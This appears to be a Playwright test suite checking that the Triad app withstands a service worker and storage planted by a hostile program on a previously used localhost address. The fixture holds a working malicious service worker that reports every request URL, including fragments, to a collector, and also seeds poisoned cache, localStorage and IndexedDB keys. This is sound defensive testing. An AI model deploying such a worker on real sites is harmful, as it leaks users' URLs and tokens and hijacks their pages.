/** A hostile program that served the address of Triad before, and left a service worker and storage in the browser. */
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { BrowserContext, Page } from '@playwright/test';
import { createLabel } from '#core/host/ownership/page-origin.ts';
import type { Host } from '../support/host.ts';
import { expect, test as base } from '../support/test.ts';

interface Attacker {
  /** URLs that the planted workers saw. */
  seen: string[];
  /** Serves `origin` of a free port until a worker and storage are planted there, then ends; resolves with the port. */
  plant(context: BrowserContext, name: string, answers: boolean, port?: number): Promise<number>;
}

const test = base.extend<{ attacker: Attacker; openHost: (port: number, label?: string) => Promise<Host> }>({
  attacker: async ({ browserName: _unused }, use) => {
    const seen: string[] = [];
    // Outlives the hostile program, so that its workers can report at any time.
    const collector = createServer((request, response) => {
      seen.push(decodeURIComponent(request.url?.slice(2) ?? ''));
      response.end();
    });
    const reports = `http://127.0.0.1:${await listen(collector, 0)}/`;
    await use({
      seen,
      plant: async (context, name, answers, port = 0) => {
        const program = hostileProgram(reports, answers);
        const opened = await listen(program, port);
        const page = await context.newPage();
        await page.goto(`http://${name}:${opened}/`);
        await page.waitForFunction(() => document.title === 'planted');
        // The worker sees a navigation there, with the fragment of its URL.
        await page.goto(`http://${name}:${opened}/sign-in#control`);
        await expect.poll(() => seen).toContain(`http://${name}:${opened}/sign-in#control`);
        // The page of the hostile program is closed; its worker stays.
        await page.close();
        seen.length = 0;
        await close(program);
        return opened;
      },
    });
    await close(collector);
  },
  openHost: async ({ hosts }, use) => {
    const folders: string[] = [];
    const opened: Host[] = [];
    await use(async (port, label) => {
      const home = await mkdtemp(join(tmpdir(), 'triad-e2e-planted-'));
      folders.push(home);
      const host = await hosts.open({ home, workspace: home, port, ...(label === undefined ? {} : { label }) });
      opened.push(host);
      return host;
    });
    for (const host of opened) await host.stop();
    for (const home of folders) await rm(home, { recursive: true, force: true, maxRetries: 3 });
  },
});

function hostileProgram(reports: string, answers: boolean): Server {
  const worker = `
    addEventListener('install', () => skipWaiting());
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));
    addEventListener('fetch', (event) => {
      event.waitUntil(fetch('${reports}?' + encodeURIComponent(event.request.url), { mode: 'no-cors' }));
      if (${answers} && event.request.mode === 'navigate')
        event.respondWith(new Response('<title>hostile</title>', { headers: { 'content-type': 'text/html' } }));
    });`;
  const page = `<!doctype html><link rel="icon" href="data:,"><script>
    (async () => {
      await navigator.serviceWorker.register('/worker.js');
      await navigator.serviceWorker.ready;
      await (await caches.open('planted')).put('/', new Response('hostile'));
      localStorage.setItem('planted', 'hostile');
      // A key of the attacker, in the store of the app.
      const opening = indexedDB.open('triad', 1);
      opening.onupgradeneeded = () => opening.result.createObjectStore('keys');
      await new Promise((resolve) => (opening.onsuccess = resolve));
      const writing = opening.result.transaction('keys', 'readwrite');
      writing.objectStore('keys').put({ publicKey: 'hostile' }, 'staged');
      await new Promise((resolve) => (writing.oncomplete = resolve));
      document.title = 'planted';
    })();
  </script>`;
  return createServer(({ url }, response) => {
    const isWorker = url === '/worker.js';
    response.writeHead(200, { 'content-type': isWorker ? 'text/javascript' : 'text/html' });
    response.end(isWorker ? worker : page);
  });
}

async function listen(server: Server, port: number): Promise<number> {
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

async function close(server: Server): Promise<void> {
  const closed = new Promise((resolve) => server.close(resolve));
  server.closeAllConnections();
  await closed;
}

const app = (page: Page) => page.getByRole('heading', { name: 'Welcome to Triad' });

const readPlantedData = (page: Page) =>
  page.evaluate(async () => ({
    planted: localStorage.getItem('planted'),
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
const NOTHING = { planted: null, caches: [], workers: 0 };

test(
  'withstands a service worker that a program left at another address',
  { tag: '@browser' },
  async ({ browser, attacker, openHost }) => {
    const context = await browser.newContext();
    const port = await attacker.plant(context, '127.0.0.1', true);
    const host = await openHost(port, createLabel());
    expect(host.port).toBe(port);
    const page = await context.newPage();
    await page.goto(host.url);
    await expect(app(page)).toBeVisible();
    expect(await readPlantedData(page)).toEqual(NOTHING);
    expect(attacker.seen).toEqual([]);
    // The worker still is at its own address.
    await page.goto(`http://127.0.0.1:${port}/`);
    await expect(page).toHaveTitle('hostile');
    await context.close();
  },
);

test(
  'withstands a service worker that a program left at the same address',
  { tag: '@browser' },
  async ({ browser, attacker, openHost }) => {
    // `127.0.0.1`, and a host name that the program learned.
    for (const label of [undefined, createLabel()]) {
      const context = await browser.newContext();
      const port = await attacker.plant(context, label === undefined ? '127.0.0.1' : `${label}.localhost`, true);
      const host = await openHost(port, label);
      expect(host.port).toBe(port);
      const page = await context.newPage();
      await page.goto(host.url);
      await expect(app(page)).toBeVisible();
      expect(page.url()).toBe(`${host.origin}/`);
      expect(await readPlantedData(page)).toEqual(NOTHING);
      await page.reload();
      await expect(app(page), 'the key is still there').toBeVisible();
      await page.goto(host.url);
      await expect(app(page), 'a used URL clears nothing').toBeVisible();
      expect(attacker.seen).toEqual([]);
      await context.close();
      await host.stop();
    }
  },
);

test(
  'withstands a service worker that lets the page pass',
  { tag: '@browser' },
  async ({ browser, attacker, openHost }) => {
    const context = await browser.newContext();
    const port = await attacker.plant(context, '127.0.0.1', false);
    const host = await openHost(port);
    const page = await context.newPage();
    await page.goto(host.origin);
    await expect(page.getByRole('alert')).toContainText('Its service worker was removed.');
    await page.goto(host.url);
    await expect(app(page)).toBeVisible();
    expect(await readPlantedData(page)).toEqual(NOTHING);
    await context.close();
  },
);

test(
  'does not open the app until the stored data of its address can be cleared',
  { tag: '@browser' },
  async ({ browser, openHost }) => {
    const context = await browser.newContext();
    const host = await openHost(0, createLabel());
    const page = await context.newPage();
    await page.route('**/sign-in/clear', (route) => route.abort());
    await page.goto(host.url);
    await expect(page.getByText('This address could not be prepared.')).toBeVisible();
    expect(page.url()).toBe(host.url);
    await page.unroute('**/sign-in/clear');
    await page.reload();
    await expect(app(page)).toBeVisible();
    await context.close();
  },
);
